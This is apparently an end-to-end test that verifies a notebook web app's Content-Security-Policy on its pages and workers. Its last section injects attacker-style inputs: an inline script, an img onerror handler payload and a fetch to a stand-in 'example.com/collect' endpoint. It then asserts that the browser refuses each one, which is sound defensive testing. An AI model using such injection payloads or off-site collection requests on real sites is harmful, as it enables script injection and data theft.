import assert from 'node:assert/strict';
import { cell, openNotebook, settled } from './notebook-support.ts';
import { installSentinel, sentinelHits } from './safety-support.ts';
import { test } from './support/e2e.ts';

/** A policy as directive → sources. */
function directives(policy: string): Map<string, string[]> {
  return new Map(policy.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([name, ...sources]) => [name!, sources]));
}

test('safety: the Content-Security-Policy is in force — served with the pages and the workers, the whole app runs under it, inline script and other sites are refused', async (t) => {
  await installSentinel(t.page);
  const page = await t.page.request.get(`${t.origin}/`);
  const header = page.headers()['content-security-policy'] ?? '';
  const policy = directives(header);
  assert.deepEqual(policy.get('script-src'), ["'self'", "'wasm-unsafe-eval'"], 'scripts only from the origin, wasm allowed, no inline script, no eval');
  assert.deepEqual(policy.get('worker-src'), ["'self'"]);
  assert.deepEqual(policy.get('connect-src'), ["'self'"]);
  assert.deepEqual(policy.get('default-src'), ["'self'"]);
  assert.deepEqual(policy.get('object-src'), ["'none'"]);
  assert.deepEqual(policy.get('frame-ancestors'), ["'none'"]);
  const meta = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(await page.text())?.[1] ?? '';
  assert.equal(`${meta.replace(/\s+/g, ' ')}; frame-ancestors 'none'`, header, 'the header is the page\'s <meta> policy, plus framing');

  // The whole app under the policy: engine and its worker, data, every cell, charts, Monaco and its worker.
  await openNotebook(t);
  await cell(t, 3).locator('seg-code-editor .view-lines').click();
  await t.page.keyboard.press('End');
  await t.page.keyboard.type(' ');
  await t.page.keyboard.press('Escape');
  await settled(t);
  const worker = t.watch.requests.find((url) => /duckdb-browser-eh\.worker.*\.js$/.test(url));
  assert.ok(worker, 'the DuckDB worker was loaded');
  // A page's <meta> does not reach its workers; the header does.
  const workerPolicy = (await t.page.request.get(worker)).headers()['content-security-policy'];
  assert.equal(`${workerPolicy}; frame-ancestors 'none'`, header, 'the worker runs under the page\'s policy');
  assert.deepEqual(await sentinelHits(t.page), [], 'nothing the app does is refused by its own policy');

  // What an attacker's markup would try, refused by the browser. (eval is not tried: code the test
  // driver evaluates is exempt from the policy; its absence from script-src is asserted above.)
  const attempts = await t.page.evaluate(async () => {
    const w = window as unknown as Record<string, unknown>;
    const script = document.createElement('script');
    script.textContent = 'window.inlineRan = true';
    document.body.append(script);
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="data:," onerror="window.handlerRan = true">';
    document.body.append(holder);
    const offSite = await fetch('https://example.com/collect').then(() => 'sent', () => 'refused');
    await new Promise((resolve) => setTimeout(resolve, 500));
    holder.remove();
    return { inline: w.inlineRan === true, handler: w.handlerRan === true, offSite };
  });
  assert.deepEqual(attempts, { inline: false, handler: false, offSite: 'refused' });
  const refused = (await sentinelHits(t.page)).map((hit) => hit.replace(/: .*/, ''));
  assert.deepEqual(new Set(refused), new Set(['blocked by script-src-elem', 'blocked by script-src-attr', 'blocked by connect-src']));
  t.note(`policy: ${header}`);
  t.note(`refused: ${[...new Set(refused)].join(', ')}`);
  assert.deepEqual(t.watch.offOrigin(), [], 'no refused request reached the network');
}, {
  expectedProblems: [/Content Security Policy/, /Refused to (execute|connect)/, /Failed to fetch/],
});
